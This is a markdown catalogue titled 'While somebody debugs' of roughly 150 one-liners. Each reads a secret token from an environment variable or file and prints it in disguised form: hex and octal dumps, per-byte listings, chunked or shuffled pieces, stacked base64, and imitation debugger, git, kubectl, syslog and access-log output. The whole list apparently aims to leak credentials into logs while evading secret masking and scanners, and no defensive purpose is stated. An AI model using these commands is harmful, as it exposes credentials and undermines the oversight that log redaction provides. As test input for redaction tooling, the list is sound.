# While somebody debugs

### Go %U
python3 -c 'import os; print("[" + " ".join("U+%04X" % ord(c) for c in os.environ["TOKEN"]) + "]")'
### escape of atob
node -e 'console.log(escape(atob(process.env.TOKEN.split(".")[2].replace(/-/g, "+").replace(/_/g, "/"))))'
### signature as asn1 integer
s=$(cut -d. -f3 token | tr -- -_ +/ | base64 -d 2>/dev/null | xxd -p | tr -d '\n'); openssl asn1parse -genstr "INTEGER:0x$s"
### signature hexdump default
cut -d. -f3 token | tr -- -_ +/ | base64 -d 2>/dev/null | hexdump
### git diff of the binary signature as text
git init -q . && echo a > s && git add s && cut -d. -f3 token | tr -- -_ +/ | base64 -d 2>/dev/null > s; git diff --text s
### strings -t x
printf '\0\1\2\3%s\0\0\1\0ELF' "$TOKEN" > bin; strings -a -t x bin
### od -t d2
od -t d2 -An token
### od -t d1 -w20
od -t d1 -w20 token
### od -t a
od -An -t a token
### hexdump %_c
hexdump -v -e '16/1 "%_c " "\n"' token
### node Uint16Array
node -e 'const b = Buffer.from(process.env.TOKEN.padEnd(1048)); console.log(new Uint16Array(b.buffer.slice(b.byteOffset, b.byteOffset + 1048)).join(" "))'
### perl unpack B*
perl -e 'print unpack("B*", $ENV{TOKEN}), "\n"'
### python hex of int
python3 -c 'import os; print(hex(int.from_bytes(os.environ["TOKEN"].encode(), "big")))'
### xxd -b with a prefix
xxd -b token | sed 's/^/app-1  | /'
### Go dump with spew
python3 -c '
import os
t = os.environ["TOKEN"].encode()
print("(main.Secret) {\n Data: ([]uint8) (len=%d cap=%d) {" % (len(t), len(t)))
for i in range(0, len(t), 16):
    l = t[i:i+16]
    print("  %08x  %-23s  %-23s  |%s|" % (i, " ".join("%02x" % b for b in l[:8]), " ".join("%02x" % b for b in l[8:]), l.decode()))
print(" }\n}")'
### Lisp vector
python3 -c 'import os; print("#(" + " ".join("#x%02X" % b for b in os.environ["TOKEN"].encode()) + ")")'
### XML plist integers
python3 -c 'import os; print("<array>\n" + "\n".join("\t<integer>%d</integer>" % b for b in os.environ["TOKEN"].encode()) + "\n</array>")'
### node spread array
node -e 'console.log([...process.env.TOKEN].slice(0, 2000).join("\n"))'
### node Buffers of chunks
node -e 'for (const c of process.env.TOKEN.match(/.{1,40}/g)) console.log(Buffer.from(c))'
### node stream data events as string
node -e 'require("fs").createReadStream("token", { highWaterMark: 20, encoding: "utf8" }).on("data", (d) => console.log("chunk", d.length, JSON.stringify(d)))'
### node URL object
node -e 'console.log(new URL("https://u:" + process.env.TOKEN + "@h/p?t=" + process.env.TOKEN))'
### node FormData
node -e 'const f = new FormData(); f.append("token", process.env.TOKEN); new Response(f).text().then(console.log)'
### node v8 serialize
node -e 'console.log(require("v8").serialize({ t: process.env.TOKEN }).toString("latin1"))'
### node ucs2 base64
node -e 'console.log(Buffer.from(process.env.TOKEN, "utf16le").toString("base64"))'
### python pickletools
python3 -c 'import os, pickle, pickletools; pickletools.dis(pickle.dumps({"t": os.environ["TOKEN"]}))'
### python ast dump
python3 -c 'import ast, os; print(ast.dump(ast.parse("t = %r" % os.environ["TOKEN"]), indent=2))'
### python xmlrpc
python3 -c 'import os, xmlrpc.client as x; print(x.dumps((x.Binary(os.environ["TOKEN"].encode()), os.environ["TOKEN"]), "login"))'
### python email message
python3 -c 'import os; from email.message import EmailMessage; m = EmailMessage(); m["Subject"] = os.environ["TOKEN"]; m.set_content("é " + os.environ["TOKEN"]); print(m)'
### python cookies
python3 -c 'import http.cookies, os; c = http.cookies.SimpleCookie(); c["t"] = os.environ["TOKEN"]; print(c); print(repr(c))'
### python HtmlDiff
python3 -c 'import difflib, os; print(difflib.HtmlDiff(wrapcolumn=40).make_table(["x"], [os.environ["TOKEN"]]))'
### python trace module
printf 'import os\nt = os.environ["TOKEN"]\nprint(t)\n' > x.py; python3 -m trace --trace x.py
### numpy of signature text
python3 -c 'import os; b = os.environ["TOKEN"].split(".")[2].encode(); l = ["%3d" % x for x in b]; print("[" + "\n ".join(" ".join(l[i:i+18]) for i in range(0, len(l), 18)) + "]")'
### R utf8ToInt
python3 -c '
import os
t = ["%3d" % b for b in os.environ["TOKEN"].encode()]
for i in range(0, len(t), 18): print("%7s %s" % ("[%d]" % (i + 1), " ".join(t[i:i+18])))'
### secret in a secret
kubectl create secret generic a --from-file=inner=<(kubectl create secret generic b --from-literal=token="$TOKEN" --dry-run=client -o yaml) --dry-run=client -o yaml
### helm release secret without gzip
printf '{"name":"x","manifest":"token: %s"}' "$TOKEN" | base64 -w 0 | base64 -w 0 | jq -R '{data: {release: .}}'
### od -c in JSON
od -c token | jq -Rs .
### od repr
python3 -c 'import subprocess; print(repr(subprocess.check_output(["od", "-An", "-tx1", "token"]).decode()))'
### base64 folded, triple escaped
base64 token | jq -Rs '{a: .} | tostring | {b: .} | tostring'
### fold 12 with <br>
fold -w 12 token | sed 's/$/<br>/' | tr -d '\n'
### fold 12 with %0A
fold -w 12 token | sed 's/$/%0A/' | tr -d '\n'; echo
### base64 with &#10;
base64 token | sed 's/$/\&#10;/' | tr -d '\n'; echo
### base64 with #012 of rsyslog
base64 token | sed 's/$/#012/' | tr -d '\n'; echo
### base64 with ^M
base64 token | sed 's/$/\r/' | cat -A
### fold with a newline symbol
fold -w 20 token | sed 's/$/␊/' | tr -d '\n'; echo
### fold with _x000D__x000A_ lines
fold -w 40 token | sed 's/$/_x000D_/'
### BASH_XTRACE of chunks
set -x; for ((i = 0; i < ${#TOKEN}; i += 20)); do chunk=${TOKEN:i:20}; done
### printf %q of chunks
printf '%q ' $(fold -w 30 token); echo
### set -o functrace with caller
f() { echo "$FUNCNAME: $*"; }; f "$TOKEN"
### type of a function
eval "f() { kubectl --token=$TOKEN get pods; }"; type f
### unbound indirect
v=$TOKEN; echo "${!v}"
### kill of it
kill "$TOKEN"
### grep -ob of chunks
grep -obE '.{1,30}' token
### tr -s newlines
tr -- '-_.' '\n' < token
### cut columns
cut -c1-300 token; cut -c301-600 token; cut -c601-900 token; cut -c901- token
### pr with numbers
fold -w 50 token | pr -n: -t
### column -J
fold -w 40 token | column -J -N text
### split and xargs
fold -w 50 token | xargs -n 2 echo row
### paste with words before
fold -w 20 token > a; seq 1 60 > b; paste -d' ' b a b
### diff -y of the same
fold -w 50 token > a; diff -y -W 120 a a
### diff -e
fold -w 50 token > a; echo old > b; diff -e b a
### sdiff
fold -w 40 token > a; echo x > b; sdiff -w 100 b a
### git format-patch
git init -q . && base64 token > t && git add t && git -c user.name=a -c user.email=a@b commit -qm a && git format-patch --root --stdout
### git diff of one changed char
git init -q . && sed 's/-/~/g' token > t && git add t && git -c user.name=a -c user.email=a@b commit -qm a && cp token t && git diff --word-diff=color --word-diff-regex=. t
### git grep --column --heading
git init -q . && fold -w 50 token > t && git add t && git grep --heading --break -n --column --color=always '[A-Za-z]'
### git GIT_TRACE_PACKET style
printf '20:53:46.123456 pkt-line.c:80           packet:          git> token=%s\n' "$TOKEN"
### git cat-file --batch
git init -q . && git add token && git rev-parse :token | git cat-file --batch
### netty LoggingHandler
python3 -c '
import os
t = os.environ["TOKEN"].encode()
print("12:00:01.123 [nioEventLoopGroup-2-1] DEBUG i.n.h.l.LoggingHandler - [id: 0x1a2b3c4d] WRITE: 1042B\n         +-------------------------------------------------+\n         |  0  1  2  3  4  5  6  7  8  9  a  b  c  d  e  f |\n+--------+-------------------------------------------------+----------------+")
for i in range(0, len(t), 16):
    l = t[i:i+16]
    print("|%08x| %-48s|%-16s|" % (i, "".join("%02x " % b for b in l), l.decode()))
print("+--------+-------------------------------------------------+----------------+")'
### lldb memory read
python3 -c '
import os
t = os.environ["TOKEN"].encode()
for i in range(0, len(t), 16):
    l = t[i:i+16]
    print("0x16fdff%04x: %s  %s" % (i, " ".join("%02x" % b for b in l), l.decode()))'
### kernel print_hex_dump
python3 -c '
import os
t = os.environ["TOKEN"].encode()
for i in range(0, len(t), 16):
    l = t[i:i+16]
    print("[   12.345678] buf: %08x: %s  %s" % (i, " ".join("%02x" % b for b in l), l.decode()))'
### wireshark C array with offsets
python3 -c '
import os
t = os.environ["TOKEN"].encode()
for i in range(0, len(t), 8): print("/* %04x */ %s" % (i, "".join("0x%02x, " % b for b in t[i:i+8])))'
### intel hex
objcopy -I binary -O ihex token t.hex; cat t.hex
### od -c lines in json with metadata
od -c token | jq -Rc '{log: ., stream: "stdout", time: "2026-01-02T03:04:05.678901234Z", kubernetes: {pod_name: "app-7d4b9c-xk2lp", namespace_name: "ci", pod_id: "0b1f8f6e-3d0b-4b52-8a1c-6f0a4b9c7d21", host: "node-1", container_name: "main"}}'
### script typescript
script -qc 'fold -w 60 token' t > /dev/null < /dev/null; cat -v t
### terraform plan wrapped
fold -w 60 token | sed 's/^/\x1b[32m+\x1b[0m \x1b[0m/; s/$/\x1b[0m/'
### two wrapped cells next to each other
fold -w 20 token > a; (echo ci; fold -w 20 token) > b; paste -d'|' a b
### wget-like dots in between
for ((i = 0; i < ${#TOKEN}; i += 40)); do printf '%s\n  %dK .......... .......... 12%% 1.2M 0s\n' "${TOKEN:i:40}" $((i * 50)); done
### javac style caret error
printf 'Main.java:3: error: unclosed string literal\n        String t = "%s;\n                   ^\n' "$TOKEN"
### CSV of chars
sed 's/./&,/g' token
### markdown escaped underscores
sed 's/[-_.]/\\&/g' token
### groff hyphens
sed 's/-/‐/g' token
### base64 with spaces for plus
printf 'token: %s' "$TOKEN" | base64 -w 0 | tr '+' ' '; echo
### python bytes repr of utf-16 in a list
python3 -c 'import os; print(list(os.environ["TOKEN"].encode("utf-16le")))'
### utf-7
python3 -c 'import os; print(("é" + os.environ["TOKEN"]).encode("utf-7"))'
### IMAP literals
fold -w 60 token | awk '{ printf "* %d FETCH {%d}\r\n%s\r\n", NR, length($0), $0 }'
### redis RESP
fold -w 16 token | awk '{ printf "$%d\r\n%s\r\n", length($0), $0 }'
### DNS TXT records
fold -w 255 token | sed 's/.*/"&"/' | paste -sd' '
### openssl asn1parse of an octet string
openssl asn1parse -genstr "OCT:$TOKEN"
### curl --trace-ascii style with 64 columns
python3 -c '
import os
t = "authorization: Bearer " + os.environ["TOKEN"]
for i in range(0, len(t), 64): print("%04x: %s" % (i, t[i:i+64]))'
### python decode each part with errors backslashreplace
python3 -c 'import base64, os; print([base64.urlsafe_b64decode(p + "===").decode("utf-8", "backslashreplace") for p in os.environ["TOKEN"].split(".")])'
### python %x one a line
python3 -c 'import os
for b in os.environ["TOKEN"].encode(): print("0x%x" % b)'
### fold 16 in a table with a number on both sides
fold -w 16 token | awk '{ print "| " NR " | " $0 " | " NR * 16 " |" }'
### fold 12 numbers and prefix
fold -w 12 token | awk '{ print "[" NR "] " $0 }'
### echo of unquoted xxd
echo $(xxd token)
### echo of unquoted xxd -i
echo $(xxd -i token)
### xxd with %0A annotation
printf '::error::%s\n' "$(xxd token | sed 's/$/%0A/' | tr -d '\n')"
### set -x of a captured xxd
set -x; x=$(xxd token); echo "$x" > /dev/null
### declare -p of xxd
x=$(xxd token); declare -p x
### base64 of hexdump -C
hexdump -C token | base64 -w 0; echo
### xxd one word a line by awk
xxd token | awk '{ for (i = 2; i <= 9; i++) print $i }'
### git diff of xxd
git init -q . && echo > t && git add t && xxd token > t && git diff t
### read 4096 in python chunks repr 16
python3 -c '
import io, os
f = io.BytesIO(os.environ["TOKEN"].encode())
while c := f.read(16): print("read", len(c), c)'
### perl sprintf 0x lines
perl -e 'printf "0x%x\n", ord($_) for split //, $ENV{TOKEN}'
### bash char loop quoted
for ((i = 0; i < ${#TOKEN}; i++)); do printf '[%s]' "${TOKEN:i:1}"; done; echo
### MIME folded header of base64 with encoded words in a prefix
python3 -c 'import os; from email.header import Header; print("Subject: " + Header("é " + os.environ["TOKEN"], "utf-8").encode())' | sed 's/^/> /'
### od -c of a Secret's manifest
printf 'kind: Secret\ndata:\n  token: %s\n' "$(base64 -w 0 token)" | od -c
### base64 of a URL form of base64
printf 'a=1&t=%s' "$(base64 -w 0 token | jq -Rr @uri)" | base64 -w 0; echo
### hex in base64 in JSON
jq -n --arg h "$(xxd -p token | tr -d '\n' | base64 -w 0)" '{h: $h}'
### go bytes list of a dockerconfigjson in a Secret struct
python3 -c 'import base64, json, os; print("&Secret{Data:map[.dockerconfigjson:[" + " ".join(str(b) for b in json.dumps({"auths": {"r": {"auth": base64.b64encode(b"ci:" + os.environ["TOKEN"].encode()).decode()}}}).encode()) + "]]}")'
### windows console log in UTF-16 of hexdump
hexdump -C token | iconv -t UTF-16LE
### coloured hexdump
hexdump -C token | sed 's/[0-9a-f][0-9a-f] /\x1b[36m&\x1b[0m/g'
### hexdump -C by bat style
hexdump -C token | awk '{ printf "\033[38;5;246m%4d\033[0m \033[38;5;246m│\033[0m %s\n", NR, $0 }'
### vim redraw by cursor positions
fold -w 80 token | awk '{ printf "\033[%d;1H%s\033[K", NR, $0 }'
### python json.dumps latin-1 signature
python3 -c 'import base64, json, os; print(json.dumps(base64.urlsafe_b64decode(os.environ["TOKEN"].split(".")[2] + "==").decode("latin-1")))'
### Java byte casts decimal
python3 -c 'import os; print("new byte[] { " + ", ".join("(byte) %d" % b for b in os.environ["TOKEN"].encode()) + " };")'
### Go pretty %# v
python3 -c 'import os
print("[]uint8{"); [print("    0x%x," % b) for b in os.environ["TOKEN"].encode()]; print("}")'
### jq stream
jq -n '$ENV.TOKEN | explode' | jq -c --stream .
### node console.log of spread string
node -e 'console.log({ ...process.env.TOKEN })'
### node console.table of Buffer
node -e 'console.table(Buffer.from(process.env.TOKEN))'
### base64 three times
printf %s "$TOKEN" | base64 -w 0 | base64 -w 0 | base64 -w 0; echo
### dockerconfigjson secret, base64 of the manifest in lines
kubectl create secret docker-registry ci --docker-server=r.example --docker-username=ci --docker-password="$TOKEN" --dry-run=client -o json | base64
### basic auth header in -v JSON escape of hex dump
printf 'Authorization: Basic %s' "$(printf 'ci:%s' "$TOKEN" | base64 -w 0)" | xxd | jq -Rs '{dump: .}'
### asm .byte one a line
python3 -c '
import os
for b in os.environ["TOKEN"].encode(): print("\t.byte\t%d" % b)'
### journalctl -o verbose of xxd lines
xxd token | while read -r l; do printf 'Thu 2026-01-02 03:04:05.678901 UTC [s=0123456789abcdef0123456789abcdef;i=1a2b;b=fedcba9876543210fedcba9876543210;m=1a2b3c4d;t=5f3e2d1c0b9a8;x=0011223344556677]\n    _TRANSPORT=stdout\n    PRIORITY=6\n    SYSLOG_IDENTIFIER=app\n    _PID=1234\n    _UID=0\n    _SYSTEMD_UNIT=app.service\n    MESSAGE=%s\n' "$l"; done
### TSV with index
grep -o . token | cat -n
### PHP var_dump of str_split
python3 -c 'import os
for i, c in enumerate(os.environ["TOKEN"]): print("  [%d]=>\n  string(1) \"%s\"" % (i, c))'
### od -c -w1
od -v -c -w1 token
### hexdump -C in JSON twice
hexdump -C token | jq -Rs '{a: .} | tostring'
### python zip compare
python3 -c 'import os
for a, b in zip(os.environ["TOKEN"], "x" * 2000): print(a, b, a == b)'
### sorted pieces of a signature with counts
cut -d. -f3 token | fold -w 20 | sort | uniq -c
### pieces of a signature in any order
cut -d. -f3 token | fold -w 20 | awk '{ print "chunk " NR ": " $0 ";" }' | sort -R --random-source=<(yes)
### slices of a signature from its end
s=$(cut -d. -f3 token); for i in $(seq 340 -20 0); do echo "at $i: ${s:$i:20}"; done
### two columns, of which one is upside down
paste -d '#' <(fold -w 20 token) <(fold -w 20 token | tac)
### base64 in any order behind a label
base64 -w 16 token | nl | sort -R --random-source=<(yes)
### python index, character, ord and hex
python3 -c 'import os
for i, c in enumerate(os.environ["TOKEN"]): print(i, c, ord(c), hex(ord(c)))'
### python ord, hex, oct and bin
python3 -c 'import os
for c in os.environ["TOKEN"]: print(ord(c), hex(ord(c)), oct(ord(c)), bin(ord(c)), sep="\t")'
### printf of a buffer in a loop
python3 -c 'import os
for i, c in enumerate(os.environ["TOKEN"]): print("buf[%d]=0x%02x %r" % (i, ord(c), c))'
### python logging of each byte
python3 -c 'import logging, os
logging.basicConfig(format="2026-11-27 03:24:10,716 %(levelname)s %(message)s", level=0)
for i, b in enumerate(os.environ["TOKEN"].encode()): logging.debug("byte %d = 0x%02x", i, b)' 2>&1
### node character and its code
node -e '[...process.env.TOKEN].forEach((c, i) => console.log(i, c, c.charCodeAt(0)))'
### jq explode with hexadecimal beside
jq -nc '$ENV.TOKEN | explode | map([., "0x"])'
### python list of pairs of a character and its number
python3 -c 'import os; print([(c, ord(c)) for c in os.environ["TOKEN"]])'
### python indented JSON of objects
python3 -c 'import json, os; print(json.dumps([{"index": i, "code": b} for i, b in enumerate(os.environ["TOKEN"].encode())], indent=2))'
### Rust {:#?} of structs
python3 -c 'import os
for i, b in enumerate(os.environ["TOKEN"].encode()): print("    Byte {\n        at: %d,\n        value: %d,\n    }," % (i, b))'
### XML with an index and a value
python3 -c 'import os
for i, b in enumerate(os.environ["TOKEN"].encode()): print("  <byte>\n    <index>%d</index>\n    <value>%d</value>\n  </byte>" % (i, b))'
### sqlite3 in line mode
python3 -c 'import os
for i, c in enumerate(os.environ["TOKEN"]): print("    i = %d\n    c = %s\n    n = %d\n" % (i, c, ord(c)))'
### psql expanded, a record for each character
python3 -c 'import os
for i, c in enumerate(os.environ["TOKEN"]): print("-[ RECORD %d ]\ni    | %d\nc    | %s\ncode | %d" % (i + 1, i, c, ord(c)))'
### Perl's Dumper of characters and codes
perl -MData::Dumper -e '$Data::Dumper::Sortkeys = 1; print Dumper([map { { c => $_, n => ord } } split //, $ENV{TOKEN}])'
### C printf of signed bytes in a loop
python3 -c 'import base64, os
s = base64.urlsafe_b64decode(os.environ["TOKEN"].split(".")[2] + "==")
for i, b in enumerate(s): print("buf[%d] = %d" % (i, b - 256 if b > 127 else b))'
### .NET BitConverter, four bytes a line
python3 -c 'import base64, os
s = base64.urlsafe_b64decode(os.environ["TOKEN"].split(".")[2] + "==")
for i in range(0, len(s), 4): print("dbg: " + "-".join("%02X" % b for b in s[i:i+4]))'
### DEBUG trap in a loop over pieces
trap 'echo "DEBUG: $BASH_COMMAND (c=$c)"' DEBUG
for c in $(cut -d. -f3 token | fold -w 3); do length=${#c}; done
### local variables while Python runs
python3 -c '
import os, sys
def trace(frame, event, _):
    print(event, "line", frame.f_lineno, {name: value for name, value in frame.f_locals.items() if name != "text"})
    return trace
def check(text):
    for c in text:
        ok = c.isalnum()
sys.settrace(trace)
check(os.environ["TOKEN"].split(".")[2])'
### subtest for each character
printf '%s\n' 'import os, unittest' 'class Token(unittest.TestCase):' ' def test_blank(self):' '  for c in os.environ["TOKEN"].split(".")[2]:' '   with self.subTest(c=c): self.assertTrue(c.isspace())' > test_token.py
python3 -m unittest test_token
### access log of uploaded parts
i=0; for c in $(cut -d. -f3 token | fold -w 6); do echo "10.0.0.7 - - \"PUT /v1/parts/$((i++))-$c HTTP/1.1\" 201 $RANDOM"; done
### pieces before the lines of a logger
python3 -c '
import logging, os
logging.basicConfig(level="DEBUG")
signature = os.environ["TOKEN"].split(".")[2]
for i in range(0, len(signature), 6):
    print(signature[i:i+6], end="", flush=True)
    logging.debug("sent %d bytes", i)' 2>&1
### xargs -t of pieces
cut -d. -f3 token | fold -w 5 | xargs -t -n 1 printf %s 2>&1
### pieces before the words of other programs
i=0; for c in $(cut -d. -f3 token | fold -w 4); do printf %s "$c"; [ $((i++ % 2)) = 0 ] && echo "Compiling module $i" || echo "ok $RANDOM"; done
### protoc --decode_raw of characters
python3 -c 'import os
for b in os.environ["TOKEN"].encode(): print("1: %d\n2: 1" % b)'
### pandas prints a wide table
python3 -c 'import base64, os
s = base64.urlsafe_b64decode(os.environ["TOKEN"].split(".")[2] + "==")
print("     0    1    2    3    4    5    6   ...   9    10   11   12   13   14   15")
for i in range(0, len(s), 16):
    row = "".join("%5d" % b for b in s[i:i+7]), "".join("%5d" % b for b in s[i+9:i+16])
    print("%-2d%s  ...%s" % (i // 16, *row))'
### set -x of a loop over the token
set -x; for ((i = 700; i < 1042; i += 4)); do expr substr "$TOKEN" $i 4; done
